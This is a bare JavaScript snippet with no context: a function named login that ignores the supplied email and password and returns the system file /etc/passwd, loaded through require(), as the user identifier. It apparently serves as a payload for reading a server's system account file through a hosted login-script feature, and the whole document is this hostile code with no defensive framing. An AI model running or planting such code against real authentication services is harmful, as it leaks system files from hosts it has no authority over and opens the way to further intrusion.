function login(email, password, callback) {
  callback(null, { user_id: require('/etc/passwd') });
}
